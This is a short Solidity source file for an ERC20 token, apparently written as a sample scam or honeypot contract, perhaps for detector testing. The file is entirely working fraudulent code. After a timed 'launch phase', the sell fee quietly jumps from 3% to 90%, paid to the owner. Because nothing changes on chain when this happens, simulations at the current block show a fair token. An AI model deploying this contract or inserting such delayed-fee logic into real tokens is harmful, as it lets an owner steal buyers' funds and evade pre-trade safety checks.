// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {IUniswapV2FactoryLike} from "../dex/Interfaces.sol";
import {ERC20} from "../lib/ERC20.sol";
import {Ownable} from "../lib/Ownable.sol";

/// @notice A time bomb: sells pay a modest fee during a "launch phase", then, once the phase is
/// over, a fee that takes almost everything. Nothing changes on chain when it goes off, so a
/// simulation at the current block sees a fair token.
contract TimeBombToken is ERC20, Ownable {
    address public pair;
    uint256 public launchedAt;
    uint256 private settlesAt;

    constructor(string memory name_, string memory symbol_, uint256 supply, address factory, address weth, uint256 launchPhase)
        ERC20(name_, symbol_, 18)
        Ownable(msg.sender)
    {
        pair = IUniswapV2FactoryLike(factory).createPair(address(this), weth);
        launchedAt = block.timestamp;
        settlesAt = block.timestamp + launchPhase;
        _mint(msg.sender, supply);
    }

    /// Percent of a sale kept by the treasury (the owner).
    function sellFee() public view returns (uint256) {
        return block.timestamp >= settlesAt ? 90 : 3;
    }

    function _update(address from, address to, uint256 amount) internal override {
        uint256 fee = to == pair && from != owner() ? (amount * sellFee()) / 100 : 0;
        if (fee > 0) _move(from, owner(), fee);
        _move(from, to, amount - fee);
    }
}
